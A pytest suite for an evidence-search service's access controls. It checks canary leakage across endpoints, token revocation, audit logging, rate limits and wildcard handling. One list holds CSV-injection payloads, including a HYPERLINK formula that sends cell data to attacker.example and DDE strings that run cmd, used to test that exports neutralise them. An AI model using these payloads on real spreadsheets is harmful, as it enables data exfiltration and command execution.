"""Access control: a restricted document holding a unique canary phrase must not leak through any path."""

import csv
import io
import itertools
import json
import os
import subprocess
import sys
from pathlib import Path
from urllib.parse import quote

import pytest

from evidence_bot import EvidenceBot, Settings
from evidence_bot.governance.access import TokenStore, Viewer
from evidence_bot.governance.audit import AuditLog
from evidence_bot.ingest.files import document_id
from evidence_bot.server import create_app

from helpers.cli import run_cli
from helpers.server import local_client
from helpers.sse import parse_events

CANARY = "quokka ledger 7731"
QUESTION = "How many entries are in the quokka ledger 7731 for safeguarding referrals?"

SOURCES = """\
documents:
  - path: public-report.txt
    title: Public safeguarding report
    doc_type: inspection_report
    date: 2025-03-01
    access: public
  - path: exempt-minutes.txt
    title: Exempt safeguarding minutes (Part II)
    doc_type: minutes
    date: 2025-04-01
    access: restricted
  - path: hr-note.txt
    title: Workforce casework note
    doc_type: other
    date: 2025-05-01
    access: group:hr
"""


@pytest.fixture(scope="module")
def secured(tmp_path_factory, fake_embedder):
    corpus = tmp_path_factory.mktemp("secured-corpus")
    (corpus / "sources.yaml").write_text(SOURCES, encoding="utf-8")
    (corpus / "public-report.txt").write_text(
        "Safeguarding report\n\nIn 2024 the council received 1,200 safeguarding concerns and completed 300 section 42 "
        "enquiries. Making Safeguarding Personal outcomes were met for 95% of people asked.\n", encoding="utf-8")
    (corpus / "exempt-minutes.txt").write_text(
        "Exempt minutes\n\nThe board noted that the quokka ledger 7731 records 48 safeguarding referrals about a named "
        "care home, which must not be disclosed. We have implemented a review of all 48 referrals.\n",
        encoding="utf-8")
    (corpus / "hr-note.txt").write_text(
        "Casework note\n\nThe wombat register 5512 lists 3 safeguarding allegations against staff.\n", encoding="utf-8")
    (corpus / twin_name(corpus)).write_text("Library note\n\nThe library opens at nine on weekdays.\n",
                                            encoding="utf-8")
    bot = EvidenceBot(Settings(index_dir=tmp_path_factory.mktemp("secured-index")), embedder=fake_embedder)
    report = bot.library().ingest([corpus])
    assert report.ok, report.failed
    store = TokenStore(bot.settings.access_path)
    tokens = {"reader": store.create("a reader", "reader", [])[1], "admin": store.create("an admin", "admin", [])[1],
              "hr": store.create("hr officer", "reader", [" HR"])[1]}  # normalised like access levels
    revoked_id, revoked = store.create("a leaver", "reader", [])
    store.revoke(revoked_id)
    tokens["revoked"] = revoked
    with local_client(create_app(bot=bot)) as client:
        yield client, tokens, bot


def twin_name(corpus) -> str:
    """A file name whose document id starts like the restricted document's: an internal document a reader may see
    whose id shares its first three characters with one they may not."""
    hidden = document_id((corpus / "exempt-minutes.txt").resolve())
    return next(name for name in (f"library-note-{n}.txt" for n in itertools.count())
                if document_id((corpus / name).resolve())[:3] == hidden[:3])


def json_string(text: str) -> str:
    return json.dumps(text)[1:-1]


def as_(tokens, who):
    return {"Authorization": f"Bearer {tokens[who]}"}


def restricted_passage_ids(bot):
    row = next(r for r in bot.catalog.documents() if r["access"] == "restricted")
    return row["doc_id"], [p.id for p in bot.catalog.doc_passages(row["doc_id"])]


def test_the_canary_is_findable_by_an_admin(secured):
    """The control: the same requests do reach the restricted document for someone allowed to read it."""
    client, tokens, bot = secured
    found = client.get("/api/search", params={"q": CANARY}, headers=as_(tokens, "admin")).text
    assert CANARY in found
    answer = client.post("/api/chat", json={"question": QUESTION}, headers=as_(tokens, "admin")).json()
    assert "48" in answer["answer"]


def test_no_path_leaks_the_restricted_document_to_a_reader(secured):
    client, tokens, bot = secured
    headers = as_(tokens, "reader")
    doc_id, passage_ids = restricted_passage_ids(bot)
    responses = {
        "chat": client.post("/api/chat", json={"question": QUESTION}, headers=headers),
        "stream": client.post("/api/chat/stream", json={"question": QUESTION}, headers=headers),
        "search": client.get("/api/search", params={"q": CANARY, "limit": 50}, headers=headers),
        "documents": client.get("/api/documents", headers=headers),
        "gaps": client.get("/api/gaps", headers=headers),
        "claims": client.get("/api/claims", headers=headers),
        "brief": client.get("/api/brief", params={"topic": CANARY}, headers=headers),
        "brief-md": client.get("/api/brief", params={"topic": CANARY, "format": "md"}, headers=headers),
        "openai": client.post("/v1/chat/completions", headers=headers, json={
            "model": "evidence-bot", "messages": [{"role": "user", "content": QUESTION}]}),
        "openai-stream": client.post("/v1/chat/completions", headers=headers, json={
            "model": "evidence-bot", "stream": True, "messages": [{"role": "user", "content": QUESTION}]}),
        "readyz": client.get("/readyz"),
    }
    for path, response in responses.items():
        assert response.status_code in (200, 503), (path, response.status_code, response.text[:200])
        echoed = response.text.replace(json_string(QUESTION), "").replace(QUESTION, "").replace(CANARY, "", 1)
        for secret in (CANARY, "quokka", "named care home", "must not be disclosed", "Exempt safeguarding minutes",
                       doc_id, *passage_ids):
            assert secret not in echoed, f"{path} leaks {secret!r}"
    names = [name for name, _ in parse_events(responses["stream"].text)]
    assert names[0] == "citations" and names[-1] == "done"
    assert "documents" not in responses["readyz"].json()  # counts would reveal what exists


def test_a_restricted_id_looks_exactly_like_a_missing_one(secured):
    client, tokens, bot = secured
    headers = as_(tokens, "reader")
    doc_id, passage_ids = restricted_passage_ids(bot)
    hidden = client.get(f"/api/passages/{passage_ids[0]}", headers=headers)
    missing = client.get(f"/api/passages/{passage_ids[0][:-1]}x", headers=headers)
    assert hidden.status_code == missing.status_code == 404
    assert hidden.json()["detail"].replace(passage_ids[0], "ID") == missing.json()["detail"].replace(
        passage_ids[0][:-1] + "x", "ID")
    hidden_doc = client.get(f"/api/documents/{doc_id}", headers=headers)
    missing_doc = client.get("/api/documents/000000000000", headers=headers)
    assert hidden_doc.status_code == missing_doc.status_code == 404
    assert (hidden_doc.json()["detail"].replace(doc_id, "ID")
            == missing_doc.json()["detail"].replace("000000000000", "ID"))


def test_groups_open_their_own_documents_only(secured):
    client, tokens, _ = secured
    def found(who, query):
        results = client.get("/api/search", params={"q": query}, headers=as_(tokens, who)).json()["results"]
        return " ".join(r["passage"]["text"] for r in results)

    assert "wombat register 5512" in found("hr", "wombat register 5512 allegations")
    assert "wombat register 5512" not in found("reader", "wombat register 5512 allegations")
    assert CANARY not in found("hr", CANARY)


def test_tokens_are_required_and_revocable(secured):
    client, tokens, _ = secured
    missing = client.get("/api/documents")
    assert missing.status_code == 401 and missing.headers["www-authenticate"] == "Bearer"
    assert client.get("/api/documents", headers=as_(tokens, "revoked")).status_code == 401
    assert client.get("/api/documents", headers={"Authorization": "Bearer eb_made_up"}).status_code == 401
    assert client.post("/v1/chat/completions", json={"model": "evidence-bot", "messages": [
        {"role": "user", "content": "x"}]}).json()["error"]["code"] == 401
    assert client.get("/healthz").status_code == 200  # liveness needs no token


def test_viewer_levels():
    assert Viewer("r").levels() == ["public", "internal"]
    assert set(Viewer("r", groups=("restricted", "hr")).levels()) == {"public", "internal", "restricted", "group:hr"}
    assert Viewer("a", role="admin").levels() is None and Viewer("r").can_read(None)  # unset means internal


def test_serve_refuses_an_open_network_without_tokens(tmp_path):
    env_index = str(tmp_path / "index")
    refused = subprocess.run([sys.executable, "-m", "evidence_bot.cli", "--index", env_index, "serve", "--host",
                              "0.0.0.0", "--port", "1"], capture_output=True, text=True, timeout=60)
    assert refused.returncode == 2 and "refusing to listen on 0.0.0.0 without authentication" in refused.stderr
    created = subprocess.run([sys.executable, "-m", "evidence_bot.cli", "--index", env_index, "tokens", "create",
                              "--name", "ops", "--role", "admin"], capture_output=True, text=True, check=True)
    token = created.stdout.strip().splitlines()[-1]
    assert (token.startswith("eb_")
            and token not in (tmp_path / "index" / "access.sqlite").read_bytes().decode("latin-1"))
    listed = subprocess.run([sys.executable, "-m", "evidence_bot.cli", "--index", env_index, "tokens", "list"],
                            capture_output=True, text=True, check=True).stdout
    assert "admin" in listed and "ops" in listed and token not in listed


def test_the_audit_log_records_who_saw_what_without_the_token(secured):
    client, tokens, bot = secured
    reader = as_(tokens, "reader")
    answer = client.post("/api/chat", json={"question": "How many safeguarding concerns were received in 2024?"},
                         headers=reader).json()
    client.get("/api/search", params={"q": "section 42 enquiries"}, headers=reader)
    client.post("/api/feedback", json={"answer_id": answer["answer_id"], "rating": "down", "comment": "audit check"},
                headers=reader)
    assert client.get("/api/audit", headers=reader).status_code == 403
    events = client.get("/api/audit", params={"who": "a reader"}, headers=as_(tokens, "admin")).json()["events"]
    by_action = {e["action"]: e for e in reversed(events)}  # newest first: keep the latest of each
    assert by_action["ask"]["detail"] == "How many safeguarding concerns were received in 2024?"
    assert by_action["ask"]["passages"] == [c["passage_id"] for c in answer["citations"]] != []
    assert by_action["search"]["passages"] and by_action["feedback"]["detail"].startswith("down on ")
    assert all(e["role"] == "reader" and e["token_id"] for e in events)
    exported = client.get("/api/audit", params={"format": "csv"}, headers=as_(tokens, "admin")).text
    assert exported.startswith("id,at,who,token_id,role,action,detail,passages") and "section 42 enquiries" in exported
    stored = bot.settings.audit_path.read_bytes() + bot.settings.audit_path.with_name("audit.sqlite-wal").read_bytes()
    for token in tokens.values():
        assert token.encode() not in stored


def test_audit_retention_deletes_old_events(tmp_path):
    log = AuditLog(tmp_path / "audit.sqlite", retention_days=30)
    log.record(Viewer("someone", "reader", (), 3), "ask", "an old question")
    log.record(Viewer("someone", "reader", (), 3), "ask", "a recent question")
    log.db.execute("UPDATE events SET at = '2020-01-01T00:00:00+00:00' WHERE detail = 'an old question'")
    assert log.purge() == 1
    assert [e["detail"] for e in log.events()] == ["a recent question"]


def test_rate_limits_are_per_token_with_retry_after(tmp_path, fake_embedder, secured):
    _, _, secured_bot = secured
    bot = EvidenceBot(Settings(index_dir=secured_bot.settings.index_dir, rate_limit="3/minute"), embedder=fake_embedder)
    with local_client(create_app(bot=bot)) as client:
        store = TokenStore(bot.settings.access_path)
        first, second = (store.create(name, "reader", [])[1] for name in ("busy script", "colleague"))
        busy = {"Authorization": f"Bearer {first}"}
        statuses = [client.get("/api/documents", headers=busy).status_code for _ in range(4)]
        assert statuses == [200, 200, 200, 429]
        limited = client.get("/api/documents", headers=busy)
        assert 1 <= int(limited.headers["Retry-After"]) <= 60 and "rate limit of 3/minute" in limited.json()["detail"]
        assert client.get("/api/documents", headers={"Authorization": f"Bearer {second}"}).status_code == 200


def test_revoking_every_token_on_a_network_address_closes_the_service(tmp_path, fake_embedder):
    from evidence_bot.cli import refuse_open_network

    settings = Settings(index_dir=tmp_path / "index")
    store = TokenStore(settings.access_path)
    token_id, _ = store.create("only token", "reader", [])
    refuse_open_network(settings, "0.0.0.0")  # what `serve --host 0.0.0.0` does with a token issued
    assert settings.require_authentication
    store.revoke(token_id)
    with local_client(create_app(bot=EvidenceBot(settings, embedder=fake_embedder))) as client:
        assert client.get("/api/documents").status_code == 401  # not opened up by the last revocation


def cli(bot, *args) -> subprocess.CompletedProcess:
    return run_cli("--index", bot.settings.index_dir, *args)


def test_a_document_prefix_resolves_among_the_documents_the_viewer_may_read(secured):
    client, tokens, bot = secured
    reader, admin = as_(tokens, "reader"), as_(tokens, "admin")
    hidden, _ = restricted_passage_ids(bot)
    twin = next(r["doc_id"] for r in bot.catalog.documents() if r["doc_id"] != hidden and r["doc_id"][:3] == hidden[:3])
    shared = hidden[:len(os.path.commonprefix([hidden, twin]))]
    # A prefix both share is the reader's one document, exactly as if the hidden one did not exist.
    assert client.get(f"/api/documents/{shared}", headers=reader).json()["doc_id"] == twin
    assert client.get(f"/api/documents/{shared}", headers=admin).status_code == 404  # ambiguous for an admin
    # The hidden id's own prefix: the same 404 as a prefix of nothing.
    own = hidden[:len(shared) + 1]
    nothing = next(shared + c for c in "0123456789abcdef" if not any(
        r["doc_id"].startswith(shared + c) for r in bot.catalog.documents()))
    hidden_reply, missing_reply = (client.get(f"/api/documents/{key}", headers=reader) for key in (own, nothing))
    assert hidden_reply.status_code == missing_reply.status_code == 404
    assert hidden_reply.json()["detail"].replace(own, "KEY") == missing_reply.json()["detail"].replace(nothing, "KEY")
    assert client.get(f"/api/documents/{own}", headers=admin).json()["doc_id"] == hidden
    # LIKE's wildcards are characters, not patterns, for everyone.
    for pattern in ("_" + hidden[1:], hidden[:4] + "%", "%", "_" * 12, hidden[:4] + "_"):
        for headers in (reader, admin):
            assert client.get(f"/api/documents/{quote(pattern)}", headers=headers).status_code == 404, pattern


def test_docs_remove_does_not_take_a_wildcard(secured):
    _, _, bot = secured
    hidden, _ = restricted_passage_ids(bot)
    removed = cli(bot, "docs", "remove", "_" + hidden[1:])
    assert removed.returncode == 3 and "no document" in removed.stderr
    assert bot.catalog.find_document(hidden) is not None


FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def spreadsheet_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(cells: list[str], sent: list[str]) -> None:
    """OWASP's CSV injection advice: a cell that starts with = + - @ tab or CR is prefixed with a single quote."""
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    for text in sent:
        assert "'" + text in cells, text


def test_the_audit_exports_neutralise_spreadsheet_formulas(secured):
    client, tokens, bot = secured
    for text in FORMULAS:
        client.get("/api/search", params={"q": text}, headers=as_(tokens, "hr"))
    over_http = client.get("/api/audit", params={"format": "csv", "who": "hr officer"}, headers=as_(tokens, "admin"))
    from_cli = subprocess.run([sys.executable, "-m", "evidence_bot.cli", "--index", str(bot.settings.index_dir),
                               "audit", "export", "--who", "hr officer"], capture_output=True, timeout=120, check=True)
    for text in (over_http.text, from_cli.stdout.decode()):  # bytes: text mode would turn the CR into a newline
        assert_no_formula(spreadsheet_cells(text), FORMULAS)


def test_readers_see_no_absolute_paths_admins_do(secured):
    client, tokens, bot = secured
    reader, admin = as_(tokens, "reader"), as_(tokens, "admin")
    folder = str(Path(bot.catalog.documents()[0]["path"]).parent)
    listed = client.get("/api/documents", headers=reader).json()["documents"]
    assert listed and all(d["path"] == Path(d["path"]).name for d in listed)
    public = next(d["doc_id"] for d in listed if d["access"] == "public")
    question = "How many safeguarding concerns were received in 2024?"
    answer = client.post("/api/chat", json={"question": question}, headers=reader).json()
    responses = [client.get("/api/documents", headers=reader), client.get(f"/api/documents/{public}", headers=reader),
                 client.get("/api/search", params={"q": "safeguarding concerns"}, headers=reader),
                 client.get(f"/api/passages/{answer['citations'][0]['passage_id']}", headers=reader),
                 client.post("/api/chat/stream", json={"question": question}, headers=reader),
                 client.post("/v1/chat/completions", headers=reader, json={
                     "model": "evidence-bot", "messages": [{"role": "user", "content": question}]}),
                 client.get("/api/gaps", headers=reader), client.get("/api/claims", headers=reader),
                 client.get("/api/brief", params={"topic": "safeguarding concerns"}, headers=reader)]
    for response in responses:
        assert response.status_code == 200 and json_string(folder) not in response.text, response.url
    assert json_string(folder) not in json.dumps(answer)
    full = client.get("/api/documents", headers=admin).json()["documents"]
    assert all(Path(d["path"]).is_absolute() and d["path"].startswith(folder) for d in full)


def test_the_mapping_shows_a_reader_only_what_they_may_read_and_only_an_admin_corrects_it(secured):
    client, tokens, bot = secured
    hidden_doc, hidden = restricted_passage_ids(bot)
    as_reader = client.get("/api/mapping", headers=as_(tokens, "reader")).json()["passages"]
    assert as_reader and not {r["passage_id"] for r in as_reader} & set(hidden)
    assert all("/" not in r["path"] for r in as_reader)  # a file name, not its place on the server
    as_admin = client.get("/api/mapping", headers=as_(tokens, "admin")).json()["passages"]
    assert set(hidden) <= {r["passage_id"] for r in as_admin} and all(r["path"].startswith("/") for r in as_admin)

    target = as_reader[0]["passage_id"]
    body = {"passage_id": target, "framework": "cqc-la", "statements": ["governance"], "note": "board minutes"}
    assert client.post("/api/mapping/corrections", json=body, headers=as_(tokens, "reader")).status_code == 403
    assert client.post("/api/mapping/corrections", json=body | {"passage_id": hidden[0]},
                       headers=as_(tokens, "hr")).status_code == 403
    made = client.post("/api/mapping/corrections", json=body, headers=as_(tokens, "admin"))
    assert made.status_code == 201 and made.json()["correction"]["by"] == "an admin"
    after = {r["passage_id"]: r for r in client.get("/api/mapping", headers=as_(tokens, "reader")).json()["passages"]}
    assert after[target]["corrected"] and [s["id"] for s in after[target]["statements"]] == ["cqc-la/governance"]
    unknown = client.post("/api/mapping/corrections", json=body | {"statements": ["nonsense"]},
                          headers=as_(tokens, "admin"))
    assert unknown.status_code == 422 and "nonsense" in unknown.text
